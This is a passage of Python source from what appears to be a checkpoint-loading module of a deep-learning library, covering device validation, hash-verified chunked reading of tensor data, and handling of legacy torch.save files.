            "map_location must be None, a device name such as 'cpu' or 'cuda:0', "
            f"or a torch.device; got the {type(map_location).__name__} {map_location!r}"
        )
    try:
        device = torch.device(map_location)
    except (RuntimeError, ValueError):
        raise ValueError(
            f"map_location={map_location!r} is not a device: use e.g. 'cpu', "
            "'cuda', 'cuda:0', a torch.device, or None (the CPU)"
        ) from None
    if device.type == "cpu":
        if device.index not in (None, 0):
            raise ValueError(
                f"map_location={map_location!r}: the CPU has no index "
                f"{device.index}; use 'cpu'"
            )
        return device
    if device.type == "meta":
        return device
    accelerator = getattr(torch, "accelerator", None)  # torch >= 2.6
    current = accelerator.current_accelerator() if accelerator else None
    if accelerator is not None and current is not None and current.type == device.type:
        count = accelerator.device_count()
    else:
        module = getattr(torch, device.type, None)
        available = getattr(module, "is_available", lambda: False)()
        count = getattr(module, "device_count", lambda: 1)() if available else 0
    if count == 0:
        raise ValueError(
            f"map_location={map_location!r} asks for a {device.type} device, and this "
            "machine has none: load onto the CPU (map_location='cpu' or None) or "
            "onto the device you have (map_location=dlcomp.try_gpu())"
        )
    if device.index is not None and device.index >= count:
        raise ValueError(
            f"map_location={map_location!r}: this machine has {count} {device.type} "
            f"device(s), numbered from 0"
        )
    return device


def _hash_chunks(chunks: SimpleQueue[memoryview | None]) -> str:
    """The SHA-256 of the chunks put in ``chunks`` until ``None``."""
    digest = hashlib.sha256()
    while (chunk := chunks.get()) is not None:
        digest.update(chunk)
    return digest.hexdigest()


def _read_verified(
    file: IO[bytes], header: Header, manifest: dict[str, Any], where: str
) -> dict[str, Tensor]:
    """Each tensor's bytes, read into memory of its own exact size, hash verified.

    The bytes are read in chunks, and each chunk is hashed in a thread while
    the next one is read: reading and hashing overlap, and two tensors can be
    hashed at once. ``torch.empty`` gives the memory without writing zeros
    into it first.
    """
    data: dict[str, Tensor] = {}
    hashes: dict[str, Future[str] | str] = {}
    chunks: SimpleQueue[memoryview | None] | None = None
    pool = ThreadPoolExecutor(_THREADS)
    try:
        for name, (_, _, begin, end) in header.entries.items():
            buffer = data[name] = torch.empty(end - begin, dtype=torch.uint8)
            view = _memory(buffer)
            if end - begin <= _SMALL:  # a thread would cost more than the hash
                _read_into(file, view, where)
                hashes[name] = hashlib.sha256(view).hexdigest()
                continue
            chunks = SimpleQueue()
            hashes[name] = pool.submit(_hash_chunks, chunks)
            for at in range(0, end - begin, _CHUNK):
                chunk = view[at : at + _CHUNK]
                _read_into(file, chunk, where)
                chunks.put(chunk)
            chunks.put(None)
            chunks = None
    finally:
        if chunks is not None:  # a read failed: its hash ends, the others are done
            chunks.put(None)
        pool.shutdown()
    for name, digest in hashes.items():
        if isinstance(digest, Future):
            digest = digest.result()
        if digest != manifest["tensors"][name]["sha256"]:
            raise _damaged(where)(
                f"the bytes of tensor {name[:60]!r} do not match their SHA-256"
            )
    return data


def read(path: Path, map_location: object = None) -> dict[str, Any]:
    """Read and verify a version-3 checkpoint: its fields, tensors decoded.

    Returns the manifest's fields (``step``, ``model``, ``optimizer``, ...)
    with every ``$tensor`` replaced by its tensor, on ``map_location``.
    """
    device = check_map_location(map_location)
    where = str(path)
    with open_regular(path, "checkpoint") as file:
        size = os.fstat(file.fileno()).st_size
        header = read_header(file, size, where, canonical=True)
        manifest = _checked_manifest(header, where)
        data = _read_verified(file, header, manifest, where)
        tensors = {}
        for name, (dtype, shape, _, _) in header.entries.items():
            flat = data[name]
            if dtype == torch.bool and bool((flat > 1).any()):
                raise _damaged(where)(
                    f"tensor {name[:60]!r} holds bools that are not 0 or 1"
                )
            tensor = flat.view(dtype).reshape(shape)
            if device.type != "cpu":  # the stored bytes only, never a dense copy
                tensor = tensor.to(device)
            if "view" in manifest["tensors"][name]:
                tensor = _viewed(tensor, manifest["tensors"][name]["view"], where)
            tensors[name] = tensor
        if file.read(1):  # pragma: no cover - read_header checked the size
            raise _damaged(where)("it has bytes past its last tensor")
    budget = _Budget(where, _damaged(where))
    fields = {
        key: decode(manifest[key], where, tensors, budget)
        for key in ("model", "model_metadata", "optimizer", "extra", "rng")
    }
    return {
        "version": VERSION,
        "dlcomp": manifest["dlcomp"],
        "step": manifest["step"],
        "optimizer_class": manifest["optimizer_class"],
        **fields,
    }


def write_bytes(encoded: Encoded) -> bytes:
    """The file :func:`write` writes, as bytes (for tests and examples)."""
    buffer = io.BytesIO()
    write(buffer, encoded)
    return buffer.getvalue()


# --- files dlcomp did not write in this format -------------------------------------

LEGACY_VERSIONS = (1, 2)  # torch.save files of dlcomp 0.1 (read, never written)


def _not_a_checkpoint(path: Path, data: object) -> CheckpointError:
    found = (
        f"a dict with keys {names([str(k)[:40] for k in data])}"
        if isinstance(data, dict)
        else f"a {type(data).__name__}"
    )
    return CheckpointError(
        f"{path} is a PyTorch file but not a dlcomp checkpoint: expected the "
        f"dict save_checkpoint writes, found {found}. For a bare state_dict "
        "use model.load_state_dict(torch.load(path, weights_only=True))"
    )


def _read_legacy(path: Path, device: torch.device) -> dict[str, Any]:
    """A version-1 or -2 checkpoint (a dict saved with ``torch.save``), its fields."""
    from dlcomp._torchzip import load_torch_file

    data = load_torch_file(path, device)
    if not (isinstance(data, dict) and data.get("format") == FORMAT):
        raise _not_a_checkpoint(path, data)
    version = data.get("version")
    if type(version) is not int or version < 1:
        raise CheckpointError(f"{path} has no valid format version. Nothing was loaded")
    if version not in LEGACY_VERSIONS:
        raise _newer(str(path), version, data.get("dlcomp"))
    return {
        "version": version,
        "dlcomp": data.get("dlcomp"),
        "step": data.get("step"),
        "model": data.get("model"),
        "model_metadata": getattr(data.get("model"), "_metadata", None),
        "optimizer": data.get("optimizer"),
        "optimizer_class": data.get("optimizer_class"),
        "extra": data.get("extra"),
        "rng": None,
        "missing": [
            k for k in ("step", "model", "optimizer", "extra") if k not in data
        ],
    }


def read_file(path: Path, map_location: object = None) -> dict[str, Any]:
    """The fields of the checkpoint at ``path``, whichever version wrote it, verified.

    Version 3 is read by :func:`read`; versions 1 and 2 (``torch.save``
    files) through the vetting of :func:`dlcomp._torchzip.load_torch_file`.
    """
    device = check_map_location(map_location)
    with open_regular(path, "checkpoint") as file:
        head = file.read(9)
    kind = sniff(head)
    if kind == "safetensors":
        return read(path, device)
    if kind == "zip" or head.startswith(b"\x80"):  # torch.save's, or a pickle
        return _read_legacy(path, device)
    size = os.path.getsize(path)
    raise CheckpointError(
        f"{path} is not a checkpoint ({size} bytes): it is neither a file "
        "dlcomp writes (safetensors) nor one torch.save writes (zip). Nothing "
        "was loaded"
    )
